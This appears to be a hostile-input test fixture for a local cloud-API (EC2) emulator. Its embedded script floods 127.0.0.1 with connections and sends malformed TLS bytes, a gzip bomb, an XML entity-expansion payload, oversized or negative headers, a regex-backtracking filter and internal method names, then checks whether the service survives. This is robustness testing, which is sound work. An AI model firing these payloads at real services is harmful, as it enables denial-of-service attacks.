from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.making import beside_an_account, written

if TYPE_CHECKING:
    from pathlib import Path


ATTACK = r"""
import gzip
idle = []
for _ in range(1500):
    with contextlib.suppress(OSError):
        idle.append(socket.create_connection(("127.0.0.1", 443), 1))
for each in idle[::2]:
    with contextlib.suppress(OSError):
        each.send(b"\x16\x03\x01" + b"\xff" * 300)
for each in idle:
    each.close()
bomb = gzip.compress(b"Action=DescribeVpcs&x=" + b"0" * 50_000_000)
entities = "<!DOCTYPE a [" + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12)) + ']><a>&e11;</a>'
for body, headers in (
    (b"", {"Content_Length": "1000000000"}), (b"a" * 3_000_000, {}), (b"", {"Content_Length": "-1"}),
    (b"", {"Transfer_Encoding": "chunked"}), (bomb, {"Content_Encoding": "gzip"}), (b"\xff\x00" * 500, {}),
    (entities.encode(), {"Content_Type": "text/xml"}), (b"[" * 500_000, {"x_amz_target": "a.b"}),
    (b"&".join(b"a=b" for _ in range(20_000)), {}), (b"", {"x-" + "a" * 60_000: "b"}),
    (b"Action=DescribeImages&Filter.1.Name=name&Filter.1.Value.1=" + b"*a" * 200 + b"b", {}),
    (b"Action=DescribeImages&Filter.999999999.Name=name", {}), (b"Action=DescribeImages&MaxResults=" + b"9" * 5000, {}),
    (b"Action=__class__", {}), (b"Action=setup_class", {}), (b"Action=call_action", {}),
):
    with contextlib.suppress(OSError, http.client.HTTPException):
        raw = CONTEXT.wrap_socket(socket.create_connection(("127.0.0.1", 443), 1))
        raw.settimeout(0.3)
        own = {"Host": "ec2.us-east-1.amazonaws.com", "Authorization": signed("ec2"), "Content-Length": len(body),
               **{name.replace("_", "-"): value for name, value in headers.items()}}
        raw.sendall(b"POST / HTTP/1.1\r\n" + "".join(f"{n}: {v}\r\n" for n, v in own.items()).encode() + b"\r\n" + body)
        raw.recv(100)
if call("DescribeRegions")[0] != 200:
    loot.append("the account does not answer any more")
"""


def make(folder: Path) -> Path:
    return written(folder, beside_an_account(ATTACK))
